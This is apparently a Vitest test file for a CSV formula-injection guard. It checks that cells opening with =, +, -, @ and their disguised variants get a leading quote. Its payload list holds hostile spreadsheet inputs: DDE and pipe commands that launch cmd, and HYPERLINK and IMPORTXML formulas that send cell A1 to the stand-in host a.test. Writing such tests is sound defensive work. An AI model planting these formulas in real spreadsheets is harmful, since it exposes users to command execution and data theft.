import { expect, test } from 'vitest';
import { csvLine } from './csv-line.ts';
import { safeCell } from './safe-cell.ts';

const openings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\u0000=',
  ' =',
  '\u200b=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '|',
  '%',
];
const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://a.test?"&A1,"点我")',
  'DDE("cmd";"/C calc";"__DDE")',
  'SUM(A1:A9)',
  '2+5+cmd',
  'IMPORTXML(CONCAT("http://a.test?",A1),"//a")',
  '@SUM(1)',
  '',
  '"=1',
  ';=1',
  '<script>alert(1)</script>',
];

test('X3 formula injection: whatever opens a formula begins with a quote, in any guise', () => {
  for (const opening of openings)
    for (const payload of payloads) {
      const cell = safeCell(opening + payload);
      expect([opening, payload, String(cell).startsWith("'")]).toEqual([opening, payload, true]);
      expect(csvLine([cell])).toMatch(/^"'[^]*"\r\n$/u);
    }
});

test('numbers stay numbers, plain words stay as they are, what XML can not hold is left out', () => {
  expect([safeCell(-5), safeCell(null), safeCell('还不错 = 好'), safeCell('a\u0001b\uffff')]).toEqual([
    -5,
    null,
    '还不错 = 好',
    'ab',
  ]);
  expect(csvLine(['他说"好"\n真的', 3, null])).toBe('"他说""好""\n真的",3,\r\n');
});
